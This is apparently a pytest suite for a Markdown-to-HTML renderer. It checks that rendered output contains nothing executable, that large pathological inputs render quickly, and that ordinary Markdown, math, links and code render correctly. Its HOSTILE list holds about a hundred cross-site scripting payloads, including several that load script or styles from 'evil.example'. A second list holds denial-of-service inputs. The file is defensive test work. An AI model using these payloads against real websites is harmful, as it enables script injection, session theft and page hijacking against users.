"""Markdown of people and models as HTML: what it becomes, that none of it can act, and that no text takes long."""

import re
import time
from html.parser import HTMLParser

import pytest

from meatlizard.markup import render, render_markdown

HARMLESS_TAGS = {
    "a", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "input", "li", "ol", "p", "pre",
    "s", "section", "span", "strong", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
HARMLESS_ATTRIBUTES = {
    "href", "title", "class", "id", "rel", "data-lang", "type", "checked", "disabled", "start", "aria-label",
}  # fmt: skip
HARMLESS_SCHEMES = {None, "http", "https", "mailto"}
SECONDS = 10.0
"""CPU time for 100 KB of the worst kinds; measured: at most 2.6 s. Their naive forms took minutes."""


class Findings(HTMLParser):
    """Whatever of a piece of HTML could act."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in HARMLESS_TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name not in HARMLESS_ATTRIBUTES:
                self.wrong.append(f"{tag} {name}={value!r}")
            if name == "href" and scheme(value or "") not in HARMLESS_SCHEMES:
                self.wrong.append(f"href={value!r}")
        if tag == "a" and "noopener noreferrer" not in (dict(attrs).get("rel") or ""):
            self.wrong.append("a link without rel")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(decl)

    def handle_comment(self, data: str) -> None:
        self.wrong.append(data)

    def handle_pi(self, data: str) -> None:
        self.wrong.append(data)


def scheme(address: str) -> str | None:
    """As a browser reads it (URL standard): blanks and control characters before it, tabs and newlines anywhere do not count."""
    cleaned = re.sub(r"[\t\n\r]", "", address).lstrip("".join(map(chr, range(33))))
    found = re.match(r"([a-z][a-z0-9+.-]*):", cleaned, re.IGNORECASE)
    return found[1].lower() if found else None


HOSTILE = [
    # HTML as it is
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0c>alert(1)</script\x0c>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\x0b=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style=position:fixed;inset:0>x</div>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea></textarea><script>alert(1)</script>",
    "<form id=location><input name=href></form>",
    "<a id=csrf-token name=cookie>x</a>",
    "<marquee onstart=alert(1)>x</marquee>",
    # links and images of Markdown
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&Tab;:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:https://evil.example/)",
    "[x](intent://evil#Intent;scheme=http;end)",
    "[x](https://evil.example/\" onclick=\"alert(1))",
    "[x](https://evil.example/ \"t\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](https://evil.example/ '\"><script>alert(1)</script>')",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: https://evil.example/ \"\\\"><img src=x onerror=alert(1)>\"",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.example/pixel.png?q=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![\"><script>alert(1)</script>](x \"\\\" onerror=alert(1)\")",
    "![x](x\"onerror=alert(1)//)",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    # code
    "```\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```\" onclick=alert(1) x=\"\nx\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```python\n'</span><img src=x onerror=alert(1)>'\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    # tables, lists, notes
    "| <script>alert(1)</script> | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "| a |\n|:-\" style=\"x:y|\n| b |",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "- [x] [y](javascript:alert(1))",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
    "x[^a]\n\n[^a]: <img src=x onerror=alert(1)>",
    "x^[<svg onload=alert(1)>]",
    # bare addresses
    "https://evil.example/\"onmouseover=alert(1)",
    "https://evil.example/'><script>alert(1)</script>",
    "javascript://evil.example/%0aalert(1)",
    "javascript:alert(1)//@x.example",
    "\"onclick=alert(1)\"@x.example",
    # characters
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>\u202c",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_a_text_can_act(text: str) -> None:
    assert len(HOSTILE) >= 60
    for wrapped in (
        text,
        f"> {text}",
        f"- {text}",
        f"**{text}**",
        f"| a |\n|---|\n| {text} |",
        f"[{text}](https://example.org)",
    ):
        assert Findings(render_markdown(wrapped, "ab12")).wrong == []


def test_the_examination_finds_what_it_should() -> None:
    for raw in (
        *(text for text in HOSTILE[:42] if not text.startswith("<![CDATA[")),
        "<a href='data:x' rel='noopener noreferrer'>",
        "<a href='https://x.example'>",
    ):
        assert Findings(raw).wrong, raw


def test_a_foreign_picture_becomes_a_link_to_press() -> None:
    html = render_markdown("![a *cat*](https://evil.example/p.png?q=1&r=2)")
    assert "<img" not in html
    assert '<a href="https://evil.example/p.png?q=1&amp;r=2"' in html
    assert ">a cat</a>" in html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a **b** *c* `d`", "<p>a <strong>b</strong> <em>c</em> <code>d</code></p>"),
        ("# One\n\n## Two", "<h1>One</h1>\n<h2>Two</h2>"),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("---", "<hr>"),
        ("~~gone~~", "<p><s>gone</s></p>"),
        ("\\*plain\\*", "<p>*plain*</p>"),
        ("&copy; 1 < 2", "<p>© 1 &lt; 2</p>"),
        ("5 * 3 * 2 and snake_case_name", "<p>5 * 3 * 2 and snake_case_name</p>"),
        ("<b>no</b>", "<p>&lt;b&gt;no&lt;/b&gt;</p>"),
        ("    x < y", '<div class="code" data-lang=""><pre><code>x &lt; y\n</code></pre></div>'),
        ("", ""),
    ],
)
def test_the_basics_of_markdown(text: str, html: str) -> None:
    assert render_markdown(text).strip() == html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("so $x^2$ is", '<p>so <span class="math">x^2</span> is</p>'),
        ("so \\( x \\) is", '<p>so <span class="math">x</span> is</p>'),
        ("$a_1$ and $b_2$", '<p><span class="math">a_1</span> and <span class="math">b_2</span></p>'),
        ("$$\na < b\n$$\nthen", '<div class="math">a &lt; b</div>\n<p>then</p>'),
        ("before\n\\[ a \\]\nafter", '<p>before</p>\n<div class="math">a</div>\n<p>after</p>'),
        ("> $$a$$", '<blockquote>\n<div class="math">a</div>\n</blockquote>'),
        ("$<b>$", '<p><span class="math">&lt;b&gt;</span></p>'),
        ("$a\\$b$", '<p><span class="math">a\\$b</span></p>'),
        ("it costs $5 and then $6", "<p>it costs $5 and then $6</p>"),
        ("it costs $5, or 6$ there", "<p>it costs $5, or 6$ there</p>"),
        ("`$x$`", "<p><code>$x$</code></p>"),
        ("$$\n\na\n$$", "<p>$$</p>\n<p>a<br>\n$$</p>"),
        ("a \\$x\\$ b", "<p>a $x$ b</p>"),
    ],
)
def test_formulas_keep_their_tex_and_prices_stay_prices(text: str, html: str) -> None:
    assert render_markdown(text).strip() == html


def test_an_almost_price_takes_no_longer_than_other_text() -> None:
    """Tried in every way in which its digits and blanks may be shared out, one of a thousand letters took a second."""
    began = time.process_time()
    render_markdown(("$" + "1" * 320 + " " * 660 + "=x$ ") * 20)
    assert time.process_time() - began < 2


def test_links_leave_no_trace_of_where_they_were_pressed() -> None:
    html = render_markdown('[t](https://a.example/x?y=1&z=2 "T")')
    assert html.strip() == (
        '<p><a href="https://a.example/x?y=1&amp;z=2" title="T" rel="noopener noreferrer nofollow ugc">t</a></p>'
    )


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("see https://a.example/b_c_d?e=*f*.", "https://a.example/b_c_d?e=*f"),
        ("**http://a.example/_b_**", "http://a.example/_b_"),
        ("(https://a.example/b)", "https://a.example/b"),
        ("at http://127.0.0.1:8000/chat/", "http://127.0.0.1:8000/chat/"),
        ("<https://a.example>", "https://a.example"),
        ("bob@b.org writes", "mailto:bob@b.org"),
    ],
)
def test_an_address_in_the_text_is_a_link(text: str, address: str) -> None:
    assert re.findall('href="([^"]*)"', render_markdown(text)) == [address]


@pytest.mark.parametrize(
    "text", ["main.py, run.sh and README.md", "//a.example", "ftp://a.example", "`https://a.example`"]
)
def test_file_names_and_code_are_not(text: str) -> None:
    assert "<a" not in render_markdown(text)


def test_a_table_with_alignment() -> None:
    html = render_markdown("| a | b |\n|:--|--:|\n| 1 | **2** |")
    assert '<th class="align-left">a</th>' in html
    assert '<td class="align-right"><strong>2</strong></td>' in html


def test_a_task_list() -> None:
    html = render_markdown("- [ ] open\n- [x] done\n- [y] neither\n  1. [X] deeper")
    boxes = re.findall("<input[^>]*>", html)
    assert [("checked" in box, "disabled" in box) for box in boxes] == [(False, True), (True, True), (True, True)]
    assert "[y] neither" in html
    assert html.count('class="contains-task-list"') == 2
    assert "<input" not in render_markdown("[ ] no list\n\n- \\[ ] no box\n- [ ]none")


def test_footnotes_of_two_texts_on_one_page_stay_apart() -> None:
    ids = [re.findall('id="([^"]*)"', render_markdown("x[^1]\n\n[^1]: y", prefix)) for prefix in ("aa", "bb")]
    assert len(ids[0]) == 2
    assert not set(ids[0]) & set(ids[1])


def test_code_is_highlighted_and_its_text_stays() -> None:
    html = render_markdown("```python\ndef f(x):\n    return x < 1\n```")
    assert 'data-lang="python"' in html
    assert '<span class="k">def</span>' in html
    assert _text(html) == "def f(x):\n    return x < 1\n"


def test_long_code_is_highlighted_piece_by_piece_without_losing_a_character() -> None:
    code = "".join(f"def f{number}(x):\n    return '{number}'\n\n\n" for number in range(600))
    assert render.HIGHLIGHT_PIECE * 4 < len(code) < render.MAX_HIGHLIGHT
    html = render_markdown(f"```python\n{code}```")
    assert html.count('<span class="k">def</span>') == 600
    assert _text(html) == code


@pytest.mark.parametrize(
    "code", ["x\n", "x" * 9_000 + "\ny\n", ("x" * 3_999 + "\n") * 3, "\n" * 9_000, "x" * 101_000 + "\n"]
)
def test_no_shape_of_code_loses_a_character(code: str) -> None:
    assert _text(render_markdown(f"```c\n{code}```")) == code


def _text(html: str) -> str:
    found: list[str] = []
    parser = HTMLParser()
    parser.handle_data = found.append  # type: ignore[assignment, method-assign]
    parser.feed(html.split("<code>", 1)[1].rsplit("</code>", 1)[0])
    parser.close()
    return "".join(found)


LONG = {
    "backticks": "`" * 100_000,
    "backticks of all lengths": "".join("`" * count + " " for count in range(1, 450)),
    "opening brackets": "[" * 100_000,
    "brackets": "[" * 50_000 + "]" * 50_000,
    "links in links": "[a](" * 25_000,
    "pictures": "![" * 50_000,
    "quotes": ">" * 100_000,
    "quotes and lists": "> - " * 25_000,
    "deep list": "\n".join("  " * depth + "- a" for depth in range(400)),
    "stars": "*a **b " * 14_000,
    "underscores": "_a__b" * 20_000,
    "tildes": "~~a" * 33_000,
    "table": "|".join("a" * 3_000) + "\n" + "|".join("-" * 3_000) + "\n" + "a\n" * 30_000,
    "tasks": "- [ ] a\n" * 12_000,
    "notes": "^[a" * 3_000 + "]" * 3_000 + "[^b] " * 15_000 + "\n\n[^b]: c",
    "references": "\n".join(f"[a{number}]: /x" for number in range(8_000)),
    "colons": "://" * 33_000,
    "ports": "http://a:1" * 9_000,
    "addresses": "http://a.example/ " * 5_500,
    "mail": "a@b.org " * 11_000,
    "one address": "http://a.example/" + "(" * 80_000,
    "entities": "&#1;" * 25_000,
    "angles": "<a " * 33_000,
    "newlines of C": "```c\n" + "\n" * 90_000 + "```",
    "lines of C#": "```csharp\n" + "a\n" * 45_000 + "```",
    "a line of Java": "```java\n" + "a " * 45_000 + "\n```",
    "dollars": "$a " * 33_000,
    "pairs of dollars": "$$a\n" * 25_000,
    "square formulas": "\\[\n" * 33_000,
    "round formulas": "\\(a" * 33_000,
    "escaped dollars": "$\\$" * 33_000,
    "quoted formulas": "> $$\n" * 20_000,
    "many blocks": ("```csharp\n" + "a\n" * 1_900 + "```\n") * 24,
    "many languages": "".join(f"```l{number}\nx\n```\n" for number in range(6_000)),
}


@pytest.mark.parametrize("name", LONG)
def test_a_hundred_kilobytes_of_anything_are_rendered_in_seconds(name: str) -> None:
    text = LONG[name]
    assert 50_000 < len(text) < 200_000
    began = time.thread_time()
    html = render_markdown(text)
    assert time.thread_time() - began < SECONDS
    assert Findings(html).wrong == []
